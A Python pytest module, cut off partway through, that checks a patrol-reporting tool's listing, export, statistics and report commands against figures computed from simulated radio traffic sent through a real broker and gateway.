"""patrolctl reports, show, export, stats and report against a store filled through a
real gateway.

One module-wide run fills the store: a real mosquitto, the real patrolgw and seeded
simulated radio bridges (gwtest.Bridge) play ten "epochs" from 30 September to
4 November 2026. Before each epoch the gateway is restarted with its clock moved
(PATROL_CLOCK_OFFSET_MS) to that epoch's time, so reports, shifts and ACKs land in
known ISO weeks. Each epoch sends a seeded random mix of reports (zones, landmarks,
postcodes, coordinates, an unmapped postcode, given and default priorities), ON/OFF
shifts, ACKs by registered partner contacts (at once or epochs later, some twice),
CLRs, duplicates heard by a second bridge, and refused messages (typos, an
unregistered unit, a bad reference, an ACK by an operative, a bad topic).

The expected figures are computed here, in Python, from what was sent (the code
table's defaults, the gazetteer's mapping of each location, the partner rules) and
from the time window of each epoch; they are compared with patrolctl's --json and
--csv output, the exports and the HTML report.

A second fill (at the end of this file) is a seeded patrolsim run, by radio and by
SMS through the simulated modem, checked against patrolsim's own transcript; the
epoch fill stays for the figures that depend on when things happened (patrolsim
runs on the real clock).
"""

import collections
import csv
import datetime
import html.parser
import io
import json
import math
import os
import random
import re
import shutil
import sqlite3
import time
from zoneinfo import ZoneInfo

import pytest

import gwtest
from gwtest import CODE_PRIORITY, OK_REPORT, t

LONDON = ZoneInfo("Europe/London")
SEED = 5
WEEKLY_HOURS = 42   # [patrol] weekly_hours; not the default 50, so the key is read

# Epochs: (local time in Europe/London). Away from week boundaries.
EPOCHS = [
    "2026-09-30T12:00",  # 0: September, ISO week 40 (outside the October range)
    "2026-10-02T10:00",  # 1: W40
    "2026-10-02T14:30",  # 2: W40
    "2026-10-07T09:00",  # 3: W41
    "2026-10-07T13:00",  # 4: W41
    "2026-10-14T11:00",  # 5: W42
    "2026-10-14T16:00",  # 6: W42
    "2026-10-21T10:00",  # 7: W43
    "2026-10-21T15:30",  # 8: W43
    "2026-10-28T09:00",  # 9: W44 (after the clocks went back)
    "2026-10-28T17:00",  # 10: W44
    "2026-11-04T12:00",  # 11: November, W45
]
OCTOBER = range(1, 11)


def local_ms(s):
    return int(datetime.datetime.fromisoformat(s).replace(tzinfo=LONDON).timestamp() * 1000)


def week_of(ms):
    d = datetime.datetime.fromtimestamp(ms / 1000, LONDON)
    y, w, _ = d.isocalendar()
    return "%d-W%02d" % (y, w)


def month_of(ms):
    return datetime.datetime.fromtimestamp(ms / 1000, LONDON).strftime("%Y-%m")


# Where each location lands (the sample gazetteer), and whether the report keeps coordinates.
LOCATIONS = {
    "HB01": "HB01", "HB02": "HB02", "HB03": "HB03", "HB04": "HB04", "HB05": "HB05",
    "HB06": "HB06", "HB07": "HB07", "HB08": "HB08", "HB09": "HB09", "HB10": "HB10",
    "HB11": "HB11", "HB12": "HB12",
    "PIER": "HB02", "CLOCKTOWER": "HB03", "RECULVER": "HB12",
    "CT6 5AB": "HB03", "CT6 8XY": "HB05", "CT6 1AA": "HB01",
    "51.3760,1.1880": "HB12",      # a zone's centroid typed as lat,lon
    "51.2000,1.0000": None,        # coordinates far from every zone
    "ME1 1AA": None,               # a postcode no zone maps: no zone, no coordinates
}
NO_COORDS = {"ME1 1AA"}
CODES = ["ASB", "ASB", "THEFT", "THEFT", "RTC", "MH", "ENV", "DMG", "SUS", "ENG", "VIO",
         "DRG", "MISPER"]

# People: operatives' radio units and partner contacts' units.
OPERATIVES = {"ALPHA": ("shopwatch", "a1"), "BRAVO": ("shopwatch", "b1"),
              "CHARLIE": ("hbbcrp", "c1")}
OPEN_UNIT = ("shopwatch", "u7")   # unregistered, on an open network: reporter "shopwatch/u7"
CONTACTS = {"police": ("DUTYP", "police", "d1"), "council": ("DUTYC", "council", "d2"),
            "seafront": ("DUTYS", "seafront", "d3")}

# Shift messages of each epoch, in the order sent.
SHIFT_PLAN = {
    0: [("ALPHA", "ON HB01")],                       # starts in September
    1: [("ALPHA", "OFF"), ("ALPHA", "ON HB01")],
    2: [("ALPHA", "OFF")],
    3: [("BRAVO", "ON"), ("CHARLIE", "ON HB12")],    # ON alone: no zone
    4: [("BRAVO", "OFF"), ("CHARLIE", "OFF")],
    5: [("BRAVO", "ON HB05")],
    6: [("BRAVO", "OFF")],
    7: [("ALPHA", "ON HB03")],
    8: [("ALPHA", "OFF")],
    9: [("BRAVO", "ON HB"), ("CHARLIE", "ON HB01")],  # an area: stored as zone "HB"
    10: [("BRAVO", "OFF"), ("CHARLIE", "ON HB02"), ("CHARLIE", "OFF")],  # moves, then stops
    11: [("ALPHA", "ON HB04")],                      # still open: counts up to now
}


def plan_shifts():
    """[(callsign, zone or "-", ON epoch, OFF epoch or None)]: an ON closes the sender's
    open shift, an OFF closes it."""
    out, open_ = [], {}
    for e in sorted(SHIFT_PLAN):
        for who, text in SHIFT_PLAN[e]:
            if who in open_:
                out.append(open_.pop(who) + (e,))
            if text != "OFF":
                parts = text.split()
                open_[who] = (who, parts[1] if len(parts) > 1 else "-", e)
    out += [v + (None,) for v in open_.values()]
    return out


SHIFTS = plan_shifts()


def partners_for(code, prio, zone):
    """The partner rules of gwtest.DEFAULT_PARTNERS; ENG never alerts."""
    if code == "ENG":
        return []
    out = []
    if prio <= 2:
        out.append("police")
    if code in ("ENV", "DMG") and prio <= 4:
        out.append("council")
    if zone == "HB12" and prio <= 3:
        out.append("seafront")
    return out


class Fill:
    """What the test sent, and the time window of each epoch (gateway clock, ms)."""

    def __init__(self):
        self.windows = []          # epoch -> (lo, hi)
        self.reports = {}          # ref -> dict
        self.acks = []             # (ref, partner, epoch)
        self.refused = []          # (outcome, reason, answered, epoch)
        self.ack_plan = collections.defaultdict(list)   # epoch -> [(ref, partner)]
        self.gw = None
        self.tmp = None
        self.now_bounds = None

    def lo(self, e):
        return self.windows[e][0]

    def hi(self, e):
        return self.windows[e][1]


class Sender:
    """One gwtest.Bridge per network; a second shopwatch bridge replays some messages."""

    def __init__(self, port):
        nets = {"shopwatch", "hbbcrp", "police", "council", "seafront"}
        self.bridges = {n: gwtest.Bridge(port, n, name="br-" + n, window=16, resend_s=3.0 * gwtest.SLOW)
                        for n in nets}
        self.echo = gwtest.Bridge(port, "shopwatch", name="br-echo", window=16,
                                  resend_s=3.0 * gwtest.SLOW)
        self.seq = 0

    def mid(self):
        self.seq += 1
        return "ctl-%05d" % self.seq

    def send(self, net, items):
        """items: [(unit, text)] -> [(msg_id, reply text)] in order."""
        if not items:
            return []
        b = self.bridges[net]
        batch = [(u, txt, self.mid()) for u, txt in items]
        b.run(batch, timeout=t(60))
        return [(mid, b.replies[mid][0]["reply"]) for _, _, mid in batch]

    def close(self):
        for b in list(self.bridges.values()) + [self.echo]:
            b.close()


def unit_of(who):
    if who in OPERATIVES:
        return OPERATIVES[who]
    return OPEN_UNIT


def run_epoch(e, fill, sender, rng, raw, gw):
    """Everything sent in epoch e; the gateway is running with its clock at the epoch."""
    by_net = collections.defaultdict(list)

    def flush():
        out = {}
        for net, items in list(by_net.items()):
            for (unit, text, tag), (mid, reply) in zip(items, sender.send(net, [(u, x) for u, x, _ in items])):
                out[tag] = reply
        by_net.clear()
        return out

    # 1. shifts, one message at a time (their order matters)
    for who, text in SHIFT_PLAN.get(e, []):
        net, unit = OPERATIVES[who]
        (_, reply), = sender.send(net, [(unit, text)])
        assert reply.startswith("OK"), (who, text, reply)

    # 2. reports
    new = []
    for k in range(rng.randint(5, 8)):
        who = rng.choice(["ALPHA", "BRAVO", "CHARLIE", "OPEN"])
        code = rng.choice(CODES)
        loc = rng.choice(sorted(LOCATIONS))
        given = rng.random() < 0.5
        prio = rng.randint(1, 4) if given else CODE_PRIORITY[code]
        text = "%s %s%s crowd near the shops #%d-%d" % (
            code, "P%d " % prio if given else "", loc, e, k)
        net, unit = unit_of(who)
        tag = ("rep", e, k)
        by_net[net].append((unit, text, tag))
        new.append((tag, who, code, prio, loc))
    replies = flush()
    for tag, who, code, prio, loc in new:
        m = OK_REPORT.match(replies[tag])
        assert m, "report not accepted: %r" % replies[tag]
        ref = int(m.group(1))
        zone = LOCATIONS[loc]
        fill.reports[ref] = {
            "ref": ref, "code": code, "priority": prio, "zone": zone, "location": loc,
            "coords": loc not in NO_COORDS, "reporter": who if who in OPERATIVES else "%s/%s" % OPEN_UNIT,
            "epoch": e, "status": "open", "partners": partners_for(code, prio, zone),
        }
        # ACKs: some at once, some one or two epochs later, some never; a few twice.
        for p in fill.reports[ref]["partners"]:
            r = rng.random()
            if r < 0.35:
                fill.ack_plan[e].append((ref, p))
            elif r < 0.8 and e + 1 < len(EPOCHS):
                fill.ack_plan[min(len(EPOCHS) - 1, e + rng.randint(1, 2))].append((ref, p))
            if r < 0.15 and e + 1 < len(EPOCHS):
                fill.ack_plan[e + 1].append((ref, p))   # a second ACK: not the first

    # 3. ACKs due now, and CLR of some reports by their reporter
    for ref, p in fill.ack_plan.get(e, []):
        cs, net, unit = CONTACTS[p]
        by_net[net].append((unit, "ACK R%d" % ref, ("ack", ref, p)))
        fill.acks.append((ref, p, e))
    for tag, who, code, prio, loc in new:
        if rng.random() < 0.2:
            ref = int(OK_REPORT.match(replies[tag]).group(1))
            net, unit = unit_of(who)
            by_net[net].append((unit, "CLR R%d all quiet" % ref, ("clr", ref)))
            fill.reports[ref]["status"] = "cleared"
    for tag, reply in flush().items():
        assert reply.startswith("OK"), "%r: %r" % (tag, reply)

    # 4. refused messages
    bad = [
        ("shopwatch", "a1", "ABS HB01 bottles #%d" % e, ("error", "CODE")),
        ("shopwatch", "b1", "ASB ZZ99 bottles #%d" % e, ("error", "LOCATION")),
        ("hbbcrp", "c1", "ASB P7 HB01 bottles #%d" % e, ("error", "PRIORITY")),
        ("hbbcrp", "x9", "ASB HB01 bottles #%d" % e, ("rejected", "unregistered sender")),
        ("police", "d1", "ACK R99999", ("error", "REF")),
    ]
    for net, unit, text, why in rng.sample(bad, rng.randint(1, 3)):
        by_net[net].append((unit, text, ("bad",) + why))
    if fill.reports and rng.random() < 0.5:
        ref = rng.choice(sorted(fill.reports))
        by_net["shopwatch"].append(("a1", "ACK R%d" % ref, ("bad", "error", "AUTH")))
    for tag, reply in flush().items():
        assert reply.startswith("ERR"), "%r: %r" % (tag, reply)
        fill.refused.append((tag[1], tag[2], True, e))

    # 5. the same transmissions heard by a second bridge: duplicates, no new figures
    for _ in range(2):
        net, unit = "shopwatch", "a1"
        mid = sender.mid()
        text = "ASB HB05 echo check #%d-%s" % (e, mid)
        sender.bridges[net].run([(unit, text, mid)], timeout=t(60))
        sender.echo.run([(unit, text, mid)], timeout=t(60))
        # The echo bridge may also have seen the original reply: wait for its DUP.
        gwtest.wait_until(lambda: any(r["reply"].endswith(" DUP")
                                      for r in sender.echo.replies.get(mid, [])),
                          t(30), "the duplicate's reply")
        ref = int(OK_REPORT.match(sender.bridges[net].replies[mid][0]["reply"]).group(1))
        fill.reports[ref] = {
            "ref": ref, "code": "ASB", "priority": 3, "zone": "HB05", "location": "HB05",
            "coords": True, "reporter": "ALPHA", "epoch": e, "status": "open", "partners": [],
        }

    # 6. one message on a bad topic in the October epochs: journaled, never answered
    if e in (3, 7):
        db = gw.db()
        before = db.scalar("SELECT count(*) FROM messages WHERE reason = 'bad topic'")
        raw.publish("%s/in/shopwatch/bad unit" % gwtest.PREFIX, "ASB HB01 x", wait=True)
        gwtest.wait_until(lambda: db.scalar(
            "SELECT count(*) FROM messages WHERE reason = 'bad topic'") > before,
            t(15), "the bad-topic message to be journaled")
        fill.refused.append(("rejected", "bad topic", False, e))


@pytest.fixture(scope="module")
def filled(tmp_path_factory, binaries):
    tmp = tmp_path_factory.mktemp("ctlreports")
    env = gwtest.Env(tmp)
    fill = Fill()
    fill.tmp = tmp
    sender = None
    try:
        b = env.broker()
        extra = ("[gateway]\ntimezone = Europe/London\n\n[patrol]\nweekly_hours = %d\n"
                 % WEEKLY_HOURS)
        g = env.gateway(b, start=False, extra=extra)
        fill.gw = g
        # The store exists once the gateway has started; people go in before the first epoch.
        for cs, (net, unit) in OPERATIVES.items():
            g.ctl("people", "add", "--callsign", cs, "--name", "Operative " + cs,
                  "--role", "operative", "--unit", "%s/%s" % (net, unit))
        for p, (cs, net, unit) in CONTACTS.items():
            g.ctl("people", "add", "--callsign", cs, "--name", "Duty " + p, "--role", "partner",
                  "--partner", p, "--unit", "%s/%s" % (net, unit))
        sender = Sender(b.port)
        raw = env.client(b)
        rng = random.Random(SEED)
        for e, when in enumerate(EPOCHS):
            target = local_ms(when)
            offset = target - int(time.time() * 1000)
            os.environ["PATROL_CLOCK_OFFSET_MS"] = str(offset)
            try:
                g.start()
            finally:
                del os.environ["PATROL_CLOCK_OFFSET_MS"]
            lo = int(time.time() * 1000) + offset
            run_epoch(e, fill, sender, rng, raw, g)
            hi = int(time.time() * 1000) + offset
            fill.windows.append((lo, hi))
            assert g.stop() == 0, gwtest.tail(g.log_path)
            assert week_of(lo) == week_of(hi), "epoch %d crossed a week boundary" % e
    except BaseException:
        if sender:
            sender.close()
        env.close()
        raise
    sender.close()
    yield fill
    env.close()


# --------------------------------------------------------------------------- helpers

def ctl(fill, *args, check=True):
    return fill.gw.ctl(*args, check=check)


def ctl_json(fill, *args):
    return json.loads(ctl(fill, *args).stdout)


def in_october(r):
    return r["epoch"] in OCTOBER


def week_e(fill, e):
    return week_of(fill.lo(e))


def expected_refs(fill, pred):
    return sorted(ref for ref, r in fill.reports.items() if pred(r))


def refs_of(rows):
    return sorted(int(r["ref"][1:]) for r in rows)


def bounds_median(lows, highs):
    los, his = sorted(lows), sorted(highs)

    def med(v):
        n = len(v)
        return v[n // 2] if n % 2 else (v[n // 2 - 1] + v[n // 2]) / 2

    def p90(v):
        return v[math.ceil(0.9 * len(v)) - 1]

    return (med(los), med(his)), (p90(los), p90(his))


def ack_expectations(fill, pred):
    """partner -> (alerted, acked, (median lo, hi) s, (p90 lo, hi) s) for reports matching pred."""
    out = {}
    partners = {p for r in fill.reports.values() if pred(r) for p in r["partners"]}
    first = {}
    for ref, p, e in fill.acks:
        if ref in fill.reports and pred(fill.reports[ref]):
            first.setdefault((ref, p), e)   # acks are listed in the order sent
            partners.add(p)
    for p in sorted(partners):
        alerted = sum(1 for r in fill.reports.values() if pred(r) and p in r["partners"])
        lows, highs = [], []
        for (ref, pp), e in first.items():
            if pp != p:
                continue
            re_ = fill.reports[ref]["epoch"]
            lows.append(max(0, fill.lo(e) - fill.hi(re_)) / 1000)
            highs.append((fill.hi(e) - fill.lo(re_)) / 1000)
        med = p90 = None
        if lows:
            med, p90 = bounds_median(lows, highs)
        out[p] = (alerted, len(lows), med, p90)
    return out


def hours_expectations(fill, epochs, now_bounds):
    """(week, zone) -> (lo, hi, shifts) hours, for shifts started in `epochs`."""
    out = {}
    for who, zone, on_e, off_e in SHIFTS:
        if on_e not in epochs:
            continue
        if off_e is None:
            lo = max(0, now_bounds[0] - fill.hi(on_e)) / 3.6e6
            hi = max(0, now_bounds[1] - fill.lo(on_e)) / 3.6e6
        else:
            lo = max(0, fill.lo(off_e) - fill.hi(on_e)) / 3.6e6
            hi = (fill.hi(off_e) - fill.lo(on_e)) / 3.6e6
        key = (week_e(fill, on_e), zone)
        a, b, n = out.get(key, (0, 0, 0))
        out[key] = (a + lo, b + hi, n + 1)
    return out


def timed(fill, *args):
    """Runs patrolctl; returns (output, (now lo, now hi)) in ms of the real clock."""
    lo = int(time.time() * 1000)
    cp = ctl(fill, *args)
    hi = int(time.time() * 1000)
    return cp.stdout, (lo, hi)


# --------------------------------------------------------------------------- reports

def test_the_fill_is_what_the_test_expects(filled):
    """Sanity of the fill itself (not a patrolctl figure)."""
    fill = filled
    assert len(fill.reports) >= 60
    assert any(r["zone"] is None and not r["coords"] for r in fill.reports.values())
    assert any(r["status"] == "cleared" for r in fill.reports.values())
    assert len(fill.acks) >= 5
    assert {x[1] for x in fill.refused} >= {"CODE", "bad topic"}


def test_reports_json_lists_every_report_with_its_fields(filled):
    fill = filled
    rows = ctl_json(fill, "reports", "--json")
    assert refs_of(rows) == sorted(fill.reports)
    times = [r["received_at"] for r in rows]
    assert times == sorted(times), "not oldest first"
    for row in rows:
        exp = fill.reports[int(row["ref"][1:])]
        assert row["code"] == exp["code"]
        assert row["priority"] == exp["priority"]
        assert row["zone"] == exp["zone"]
        assert row["location"] == exp["location"]
        assert row["reporter"] == exp["reporter"]
        assert row["status"] == exp["status"]
        assert row["channel"] == "radio"
        assert (row["lat"] is not None) == exp["coords"]
        assert row["details"].startswith("crowd near the shops") or "echo check" in row["details"]
        ms = int(gwtest.parse_rfc3339(row["received_at"]).timestamp() * 1000)
        assert fill.lo(exp["epoch"]) - 1 <= ms <= fill.hi(exp["epoch"]) + 1
        assert (row["cleared_at"] is not None) == (exp["status"] == "cleared")
    if any(r["code"] == "ASB" for r in rows):
        assert [r for r in rows if r["code"] == "ASB"][0]["code_name"] == "anti-social behaviour"


FILTERS = [
    ("zone", ["--zone", "hb01"], lambda r: r["zone"] == "HB01"),
    ("no zone", ["--zone", "-"], lambda r: r["zone"] is None),
    ("code alias", ["--code", "shop"], lambda r: r["code"] == "THEFT"),
    ("priority", ["--priority", "P1"], lambda r: r["priority"] == 1),
    ("status", ["--status", "cleared"], lambda r: r["status"] == "cleared"),
    ("reporter", ["--reporter", "BRAVO"], lambda r: r["reporter"] == "BRAVO"),
    ("open unit", ["--reporter", "shopwatch/u7"], lambda r: r["reporter"] == "shopwatch/u7"),
    ("october", ["--since", "2026-10-01", "--until", "2026-10-31"], in_october),
    ("rfc3339", ["--since", "2026-10-07T00:00:00+01:00", "--until", "2026-10-21T00:00:00Z"],
     lambda r: r["epoch"] in (3, 4, 5, 6)),
    ("combined", ["--since", "2026-10-01", "--zone", "HB12", "--priority", "3"],
     lambda r: r["epoch"] >= 1 and r["zone"] == "HB12" and r["priority"] == 3),
]


@pytest.mark.parametrize("name,args,pred", FILTERS, ids=[f[0] for f in FILTERS])
def test_reports_filters_json_and_csv(filled, name, args, pred):
    fill = filled
    want = expected_refs(fill, pred)
    got = ctl_json(fill, "reports", *args, "--json")
    assert refs_of(got) == want, name
    text = ctl(fill, "reports", *args, "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert refs_of(rows) == want
    table = ctl(fill, "reports", *args).stdout
    assert re.search(r"^%d reports?$" % len(want), table, re.M), table[-200:]


def test_reports_usage_errors(filled):
    fill = filled
    for args in (["--since", "yesterday"], ["--until", "2026-13-01"], ["--priority", "P5"],
                 ["--status", "closed"], ["--bogus"], ["--zone"],
                 ["--since", "2026-10-10", "--until", "2026-10-01"]):
        cp = ctl(fill, "reports", *args, check=False)
        assert cp.returncode == 2, (args, cp.returncode, cp.stderr)
        assert cp.stderr.strip()
    for cmd in ("reports", "show", "export", "stats", "report"):
        cp = ctl(fill, cmd, "--help")
        assert "usage: patrolctl " + cmd in cp.stdout
    top = gwtest.patrolctl("--help").stdout
    for cmd in ("reports", "show", "export", "stats", "report"):
        assert "\n  %s " % cmd in top


# --------------------------------------------------------------------------- show

def test_show_gives_the_whole_timeline(filled):
    fill = filled
    # A report alerted to a partner that acknowledged it, and one that was cleared.
    acked = {ref for ref, p, e in fill.acks}
    ref = next(r for r in sorted(fill.reports) if r in acked and fill.reports[r]["partners"])
    exp = fill.reports[ref]
    o = ctl_json(fill, "show", "R%d" % ref, "--json")
    assert o["report"]["ref"] == "R%d" % ref
    assert o["report"]["code"] == exp["code"]
    kinds = [e["kind"] for e in o["events"]]
    assert kinds[0] == "received"
    assert sorted(e["partner"] for e in o["events"] if e["kind"] == "alerted") == sorted(exp["partners"])
    my_acks = [(p, e) for r, p, e in fill.acks if r == ref]
    assert len([e for e in o["events"] if e["kind"] == "ack"]) == len(my_acks)
    alerts = [a for a in o["alerts"] if a["kind"] == "alert"]
    assert sorted(a["partner"] for a in alerts) == sorted(exp["partners"])
    for a in alerts:
        if any(p == a["partner"] for p, _ in my_acks):
            assert a["state"] == "acked" and a["acked_by"] == CONTACTS[a["partner"]][0]
            assert a["acked_at"] is not None
        else:
            assert a["state"] in ("sent", "pending") and a["acked_at"] is None
        assert a["attempts"] >= 1
    outcomes = [m["outcome"] for m in o["messages"]]
    assert outcomes[0] == "accepted" and "crowd near the shops" in o["messages"][0]["text"]
    assert outcomes.count("accepted") == 1 + len(my_acks) + (exp["status"] == "cleared")
    table = ctl(fill, "show", "r%d" % ref).stdout
    assert "R%d" % ref in table and "Timeline" in table and "Alerts" in table

    cleared = next(r for r in sorted(fill.reports) if fill.reports[r]["status"] == "cleared")
    o = ctl_json(fill, "show", str(cleared), "--json")
    assert o["report"]["status"] == "cleared"
    assert "cleared" in [e["kind"] for e in o["events"]]

    cp = ctl(fill, "show", "R999999", check=False)
    assert cp.returncode == 1 and "R999999" in cp.stderr
    cp = ctl(fill, "show", "nonsense", check=False)
    assert cp.returncode == 2


# --------------------------------------------------------------------------- export

def valid_geojson_feature(f):
    assert f["type"] == "Feature"
    assert isinstance(f["properties"], dict)
    g = f["geometry"]
    assert g["type"] == "Point"
    c = g["coordinates"]
    assert isinstance(c, list) and len(c) == 2
    assert all(isinstance(v, (int, float)) and not isinstance(v, bool) for v in c)
    lon, lat = c
    assert -180 <= lon <= 180 and -90 <= lat <= 90
    return lon, lat


def test_export_csv_json_geojson(filled, tmp_path):
    fill = filled
    want = expected_refs(fill, in_october)
    args = ["--since", "2026-10-01", "--until", "2026-10-31"]

    out = tmp_path / "r.csv"
    ctl(fill, "export", "--format", "csv", *args, "--out", str(out))
    rows = list(csv.DictReader(out.open(newline="")))
    assert refs_of(rows) == want
    assert list(rows[0].keys()) == ["ref", "received_at", "code", "priority", "location", "zone",
                                    "lat", "lon", "details", "reporter", "channel", "status",
                                    "cleared_at"]
    for r in rows:
        exp = fill.reports[int(r["ref"][1:])]
        assert r["code"] == exp["code"] and int(r["priority"]) == exp["priority"]
        assert r["zone"] == (exp["zone"] or "")
        assert (r["lat"] != "") == exp["coords"]
        if r["lat"]:
            float(r["lat"]), float(r["lon"])

    cp = ctl(fill, "export", "--format", "json", *args)
    assert refs_of(json.loads(cp.stdout)) == want

    cp = ctl(fill, "export", "--format", "geojson", *args)
    fc = json.loads(cp.stdout)
    assert fc["type"] == "FeatureCollection"
    mapped = [ref for ref in want if fill.reports[ref]["coords"] or fill.reports[ref]["zone"]]
    left_out = len(want) - len(mapped)
    assert left_out > 0, "the fill should contain a report with no position"
    assert sorted(int(f["id"][1:]) for f in fc["features"]) == mapped
    for f in fc["features"]:
        lon, lat = valid_geojson_feature(f)
        exp = fill.reports[int(f["id"][1:])]
        p = f["properties"]
        assert p["ref"] == f["id"] and p["code"] == exp["code"] and p["zone"] == exp["zone"]
        if exp["location"] == "51.2000,1.0000":
            assert (lon, lat) == (1.0, 51.2)
        else:   # the zone's centroid (the gazetteer), longitude first
            assert 1.0 < lon < 1.3 and 51.3 < lat < 51.4
    assert re.search(r"\b%d reports? left out" % left_out, cp.stderr), cp.stderr

    for bad in (["--format", "kml"], [], ["--format"]):
        assert ctl(fill, "export", *bad, check=False).returncode == 2


def test_export_geojson_uses_the_zone_centroid_without_coordinates(filled, tmp_path):
    """A report kept with a zone but no coordinates (e.g. from before coordinates were
    stored) is placed at its zone's centroid from the gazetteer."""
    fill = filled
    db = tmp_path / "copy.db"
    src = sqlite3.connect("file:%s?mode=ro" % fill.gw.db_path, uri=True)
    dst = sqlite3.connect(db)
    src.backup(dst)
    src.close()
    ref = next(r for r in sorted(fill.reports) if fill.reports[r]["zone"] == "HB01")
    dst.execute("UPDATE reports SET lat = NULL, lon = NULL WHERE ref = ?", (ref,))
    dst.commit()
    dst.close()
    conf = tmp_path / "gw.conf"
    conf.write_text(fill.gw.conf.read_text().replace("path = patrolgw.db", "path = %s" % db))
    cp = gwtest.patrolctl("--config", conf, "export", "--format", "geojson", "--zone", "HB01")
    fc = json.loads(cp.stdout)
    f = next(f for f in fc["features"] if f["id"] == "R%d" % ref)
    assert f["geometry"]["coordinates"] == [1.1283, 51.3716]
    assert f["properties"]["position"] == "zone centroid"
    assert f["properties"]["lat"] is None
    # Without a gazetteer (--db alone) it has no position and is left out.
    cp = gwtest.patrolctl("--db", db, "export", "--format", "geojson", "--zone", "HB01")
    assert "R%d" % ref not in [f["id"] for f in json.loads(cp.stdout)["features"]]
    assert "1 report left out" in cp.stderr


# --------------------------------------------------------------------------- stats

def check_stats(fill, st, pred, epochs, now_bounds, period="week"):
    sel = [r for r in fill.reports.values() if pred(r)]
    key = week_of if period == "week" else month_of
    inc = collections.Counter((key(fill.lo(r["epoch"])), r["zone"] or "-", r["code"]) for r in sel)
    got = {(x["period"], x["zone"], x["code"]): x["count"] for x in st["incidents"]}
    assert got == dict(inc)
    assert st["reports"] == len(sel)
    assert st["by_priority"] == {"P%d" % p: sum(1 for r in sel if r["priority"] == p)
                                 for p in range(1, 5)}
    assert st["by_channel"] == {"radio": len(sel)}

    acks = ack_expectations(fill, pred)
    assert {a["partner"] for a in st["acks"]} == set(acks)
    for a in st["acks"]:
        alerted, acked, med, p90 = acks[a["partner"]]
        assert (a["alerted"], a["acked"]) == (alerted, acked), a
        if acked:
            assert med[0] - 0.1 <= a["median_s"] <= med[1] + 0.1, (a, med)
            assert p90[0] - 0.1 <= a["p90_s"] <= p90[1] + 0.1, (a, p90)
        else:
            assert a["median_s"] is None

    hrs = hours_expectations(fill, epochs, now_bounds)
    got = {(h["week"], h["zone"]): h for h in st["patrol_hours"]["by_zone"]}
    assert set(got) == set(hrs)
    for k, (lo, hi, n) in hrs.items():
        assert lo - 0.006 <= got[k]["hours"] <= hi + 0.006, (k, got[k], lo, hi)
        assert got[k]["shifts"] == n
    assert st["patrol_hours"]["weekly_hours"] == WEEKLY_HOURS

    refused = collections.Counter((o, r, a) for o, r, a, e in fill.refused if e in epochs)
    got = {(m["outcome"], m["reason"], m["answered"]): m["count"] for m in st["messages"]}
    assert got == dict(refused)
    counts = [m["count"] for m in st["messages"]]
    assert counts == sorted(counts, reverse=True)
    return hrs


def test_stats_october_json(filled):
    fill = filled
    out, now = timed(fill, "stats", "--since", "2026-10-01", "--until", "2026-10-31", "--json")
    st = json.loads(out)
    assert st["period"] == "week"
    assert st["range"]["timezone"] == "Europe/London"
    hrs = check_stats(fill, st, in_october, set(OCTOBER), now)
    # Every week of October, against the commitment; weeks cut by the month held to a share.
    weeks = st["patrol_hours"]["weeks"]
    assert [w["week"] for w in weeks] == ["2026-W40", "2026-W41", "2026-W42", "2026-W43",
                                          "2026-W44"]
    assert [w["days"] for w in weeks] == [4, 7, 7, 7, 6]
    for w in weeks:
        assert w["commitment"] == pytest.approx(WEEKLY_HOURS * w["days"] / 7, abs=0.006)
        lo = sum(v[0] for k, v in hrs.items() if k[0] == w["week"])
        hi = sum(v[1] for k, v in hrs.items() if k[0] == w["week"])
        assert lo - 0.02 <= w["hours"] <= hi + 0.02
        assert w["percent"] == pytest.approx(100 * w["hours"] / w["commitment"], abs=0.1)


def test_stats_unbounded_by_month_and_zone(filled):
    fill = filled
    out, now = timed(fill, "stats", "--month", "--json")
    st = json.loads(out)
    assert st["period"] == "month"
    check_stats(fill, st, lambda r: True, set(range(len(EPOCHS))), now, period="month")
    # Without a range only the weeks with shifts are listed, each against a full week.
    assert all(w["days"] == 7 and w["commitment"] == WEEKLY_HOURS
               for w in st["patrol_hours"]["weeks"])

    out, now = timed(fill, "stats", "--zone", "HB12", "--json")
    st = json.loads(out)
    sel = [r for r in fill.reports.values() if r["zone"] == "HB12"]
    assert st["reports"] == len(sel)
    assert {h["zone"] for h in st["patrol_hours"]["by_zone"]} == {"HB12"}


def test_stats_csv_tables_match_the_json(filled):
    fill = filled
    args = ["--since", "2026-10-01", "--until", "2026-10-31"]
    st = ctl_json(fill, "stats", *args, "--json")
    rows = list(csv.DictReader(io.StringIO(ctl(fill, "stats", *args, "--csv", "--table",
                                                "incidents").stdout)))
    assert {(r["period"], r["zone"], r["code"]): int(r["count"]) for r in rows} == \
        {(x["period"], x["zone"], x["code"]): x["count"] for x in st["incidents"]}
    rows = list(csv.DictReader(io.StringIO(ctl(fill, "stats", *args, "--csv", "--table",
                                                "priority").stdout)))
    assert {r["priority"]: int(r["count"]) for r in rows} == st["by_priority"]
    rows = list(csv.DictReader(io.StringIO(ctl(fill, "stats", *args, "--csv", "--table",
                                                "acks").stdout)))
    assert {r["partner"]: (int(r["alerted"]), int(r["acked"])) for r in rows} == \
        {a["partner"]: (a["alerted"], a["acked"]) for a in st["acks"]}
    rows = list(csv.DictReader(io.StringIO(ctl(fill, "stats", *args, "--csv", "--table",
                                                "weeks").stdout)))
    assert [(r["week"], int(r["days"])) for r in rows] == \
        [(w["week"], w["days"]) for w in st["patrol_hours"]["weeks"]]
    rows = list(csv.DictReader(io.StringIO(ctl(fill, "stats", *args, "--csv", "--table",
                                                "messages").stdout)))
    assert sum(int(r["count"]) for r in rows) == sum(m["count"] for m in st["messages"])
    # All tables at once: each after a '# name' line.
    text = ctl(fill, "stats", *args, "--csv").stdout
    names = re.findall(r"^# (\w+)$", text, re.M)
    assert names == ["incidents", "priority", "channel", "acks", "hours", "weeks", "messages"]
    table = ctl(fill, "stats", *args).stdout
    assert "%d reports" % st["reports"] in table
    for heading in ("Incidents by zone, code and week", "Time from report to first ACK",
                    "Patrol hours against the commitment (%d hours a week)" % WEEKLY_HOURS,
                    "Refused or unanswered messages"):
        assert heading in table
    assert ctl(fill, "stats", "--table", "nope", check=False).returncode == 2


# --------------------------------------------------------------------------- report

VOID = {"meta", "br", "hr", "img", "input", "link", "col", "area", "base", "wbr", "source"}


class Checker(html.parser.HTMLParser):
    """Tag balance, plus the data-* attributes of the chart elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack = []
        self.errors = []
        self.tags = collections.Counter()
        self.elems = []        # (tag, attrs, enclosing svg id)
        self.svg = None
